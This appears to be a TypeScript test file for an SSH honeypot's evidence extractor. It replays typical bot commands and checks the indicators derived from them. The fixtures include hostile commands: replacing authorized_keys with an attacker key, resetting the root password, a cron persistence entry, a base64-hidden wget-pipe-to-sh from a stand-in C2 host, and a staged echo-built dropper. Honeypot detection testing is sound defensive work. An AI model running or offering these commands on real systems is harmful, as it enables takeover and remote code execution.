/** What bots send, made harmless: told as they meant it, and nothing beside it. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import { extractEvidence } from "../../gateway/evidence/extract.ts";
import { sessionIndicators } from "../../gateway/evidence/indicators/session-indicators.ts";
import { EventMapper } from "../../gateway/events/event-mapper.ts";
import { buildChannelExtendedData, buildChannelSignal } from "../../gateway/ssh/messages/channel.ts";
import { Conversation } from "./conversation.ts";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f mdr";
const FINGERPRINT = createHash("sha256").update(Buffer.from(KEY.split(" ")[1] ?? "", "base64")).digest("base64").replace(/=+$/, ""); // prettier-ignore
const PROGRAM = Buffer.from("\x7fELF\x01\x01\x01\0not really a bot\xff\x90\r\n'$`", "latin1");

async function told(talk: Conversation) {
  const entries = talk.whole();
  const { observations } = await extractEvidence(entries);
  const mapper = new EventMapper({ uuid: "u", arch: "linux-x64-lsb" });
  return {
    commands: observations.flatMap((one) => (one.kind === "command" ? [one.text] : [])),
    files: observations.flatMap((one) =>
      one.kind === "dropped" ? [[one.path, one.certainty, one.sha256]] : [],
    ),
    indicators: sessionIndicators(observations).map(({ kind, value }) => `${kind} ${value}`),
    events: entries.flatMap((entry) => mapper.push(entry)),
  };
}

/** What each command printed on standard error, and its exit status. */
const ASKED: readonly (readonly [
  command: string,
  says: string,
  status: number,
  indicators: readonly string[],
])[] = [
  ["cat /proc/cpuinfo | grep name | wc -l", "", 0, []],
  ["/bin/busybox XMVQZ", "XMVQZ: applet not found\n", 127, []],
  [
    "uname -s -v -n -r -m; free -m | grep Mem | awk '{print $2 ,$3, $4}'; w; nproc; ls -lh $(which ls)",
    "",
    0,
    [],
  ],
  ["lockr -ia .ssh", "bash: lockr: command not found\n", 127, ["tampering lockr -ia .ssh"]],
  [
    "cd ~; chattr -ia .ssh; true",
    "chattr: No such file or directory while trying to stat .ssh\n",
    0,
    ["tampering chattr -ia .ssh"],
  ],
  [
    `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${KEY}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
    "",
    0,
    [`ssh-key SHA256:${FINGERPRINT}`],
  ],
  ['echo "root:kRsZ8qf3"|chpasswd|bash', "", 0, ["password-changed root:kRsZ8qf3"]],
  ["echo '*/9 * * * * /var/tmp/.u' | crontab -", "", 0, ["cron */9 * * * * /var/tmp/.u"]],
  [
    `echo ${Buffer.from("wget -q http://c2.example.com/x.sh -O- | sh\n").toString("base64")} | base64 -d | sh`,
    "",
    0,
    ["url http://c2.example.com/x.sh", "domain c2.example.com"],
  ],
];

test("what is asked one after the other: commands to the byte, what failed, what they tell, no file that is none", async () => {
  const talk = new Conversation().login();
  for (const [command, says, status] of ASKED) {
    const channel = talk.open();
    talk.exec(channel, command);
    if (says !== "") talk.packet("upstream", buildChannelExtendedData(channel, 1, Buffer.from(says)));
    talk.exits(channel, status);
  }
  const { commands, files, indicators, events } = await told(talk);
  assert.deepEqual(commands, ASKED.map(([command]) => command)); // prettier-ignore
  assert.deepEqual(files, [[".ssh/authorized_keys", "written", undefined]]);
  assert.deepEqual(indicators.toSorted(), ASKED.flatMap(([, , , told]) => told).toSorted()); // prettier-ignore
  const failed = events.filter(({ eventid }) => eventid === "cowrie.command.failed");
  assert.deepEqual(failed.map((one) => one["input"]), ["/bin/busybox XMVQZ", "lockr -ia .ssh"]); // prettier-ignore
  assert.deepEqual(events.filter(({ eventid }) => eventid === "cowrie.session.file_upload"), []); // prettier-ignore
});

test("a dropper in pieces, with a word that no busybox has after each: one file, to the byte", async () => {
  const octets = Array.from(PROGRAM, (byte) => `\\x${byte.toString(16).padStart(2, "0")}`);
  const pieces = Array.from({ length: 5 }, (_, piece) => octets.slice(piece * 8, piece * 8 + 8).join(""));
  const lines = [
    ...["enable", "system", "shell", "sh"],
    ">/tmp/.d && cd /tmp; >/nothing/.d && cd /nothing; /bin/busybox KYZQX",
    ...pieces.map(
      (piece, at) => `/bin/busybox echo -ne '${piece}' ${at === 0 ? ">" : ">>"} .d; /bin/busybox KYZQX`,
    ),
    "chmod 777 .d; ./.d || echo none > .never; /bin/busybox KYZQX",
  ];
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.request(channel, "shell");
  for (const line of lines) talk.sends(channel, `${line}\n`);
  const says = ["enable", "system", "shell"].map((name) => `sh: 1: ${name}: not found\n`).join("");
  const more = `sh: 1: cannot create /nothing/.d: Directory nonexistent\n${"KYZQX: applet not found\n".repeat(7)}`;
  talk.packet("upstream", buildChannelExtendedData(channel, 1, Buffer.from(says + more)));
  talk.packet("downstream", buildChannelSignal("channel-eof", channel)).exits(channel, 127);
  const { commands, files, indicators } = await told(talk);
  assert.deepEqual(commands, lines);
  const hash = createHash("sha256").update(PROGRAM).digest("hex");
  const none = createHash("sha256").update("none\n").digest("hex");
  assert.deepEqual(files, [
    [".d", "written", hash],
    [".never", "typed", none],
  ]);
  assert.deepEqual(indicators, []);
});
